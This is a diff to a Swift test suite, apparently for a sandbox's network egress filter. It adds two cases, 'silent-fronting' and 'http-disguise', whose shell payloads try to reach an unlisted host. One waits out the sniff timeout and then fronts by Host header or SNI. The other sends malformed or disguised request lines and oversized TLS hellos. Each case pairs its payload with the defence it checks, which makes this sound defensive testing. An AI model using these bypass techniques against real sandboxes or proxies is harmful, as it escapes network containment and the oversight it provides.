@@ -6,7 +6,7 @@ enum NetworkAttacks {
         [
             directIP, literalThroughProxy, privateViaDNS, metadataAWSv1, metadataAWSv2, metadataAzure, metadataGCP, ipv4Mapped,
             decimalAddress, octalAddress, hexAddress, dnsLongLabel, dnsOtherTypes, dnsUnlistedName, dnsDirectResolver, dnsOverHTTPS,
-            icmp, rawSocket, udp, ipv6, sniMismatch, hostMismatch, connectUnlistedPort, webSocketUnlisted, redirectUnlisted,
+            icmp, rawSocket, udp, ipv6, sniMismatch, hostMismatch, silentFronting, httpDisguise, connectUnlistedPort, webSocketUnlisted, redirectUnlisted,
             hostLoopback, abstractSocket, selfApproval,
         ]
     }
@@ -256,6 +256,45 @@ enum NetworkAttacks {
         a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] && \(tool) http "$a" 8080 /\(m) unlisted.test
         \(tool) http \(Lab.unlisted) 8080 /\(m) allowed.test
         """
+    }
+
+    static let silentFronting = attack(
+        "net.silent-fronting",
+        "on an allowed host's explicitly listed port (where opaque traffic may pass), say nothing until the sniff timeout, then front by Host or SNI",
+        defence:
+            "tunnel gate and captured flows: a silent client gets the server's first bytes, but its own first bytes are judged whenever they come",
+        control: .hostNetwork, "in a sandbox on the lab's network, the same late requests reach the stand-in", at: isAt(Lab.allowed)
+    ) { tool, m in
+        let request = "'GET /\(m) HTTP/1.1\\r\\nHost: unlisted.test'"
+        return """
+            SILENT=4 \(tool) connect allowed.test:8080 \(request)
+            SILENT=4 \(tool) connect-tls allowed.test:8443 \(m).unlisted.test
+            SILENT=4 \(tool) socks allowed.test 8080 \(request)
+            a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] || a=\(Lab.allowed)
+            SILENT=1 \(tool) send "$a" 8080 \(request)
+            SILENT=1 \(tool) tls "$a" 8443 \(m).unlisted.test
+            """
+    }
+
+    static let httpDisguise = attack(
+        "net.http-disguise",
+        "on an explicitly listed port, send what servers read as a request to another host but a strict reader calls opaque: empty lines first, a lowercase method, runs of spaces, HTTP/2 prior knowledge, a ClientHello over 64 KiB",
+        defence: "first-bytes reader: anything a server could read as a request line or ClientHello is judged as one (refused when malformed), never opaque",
+        control: .hostNetwork, "in a sandbox on the lab's network, the same bytes reach the stand-in", at: isAt(Lab.allowed)
+    ) { tool, m in
+        let disguises = [
+            "'\\r\\nGET /\(m) HTTP/1.1\\r\\nHost: unlisted.test'", "'get /\(m) HTTP/1.1\\r\\nHost: unlisted.test'",
+            "'GET  /\(m)  HTTP/1.1\\r\\nHost: unlisted.test'", "'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\(m)'",
+        ]
+        return """
+            a=$(getent hosts allowed.test | cut -d' ' -f1); [ -n "$a" ] || a=\(Lab.allowed)
+            for d in \(disguises.joined(separator: " ")); do
+              \(tool) connect allowed.test:8080 "$d"
+              \(tool) send "$a" 8080 "$d"
+            done
+            \(tool) connect-tls-big allowed.test:8443 \(m).unlisted.test
+            \(tool) tls-big "$a" 8443 \(m).unlisted.test
+            """
     }
 
     static let connectUnlistedPort = attack(
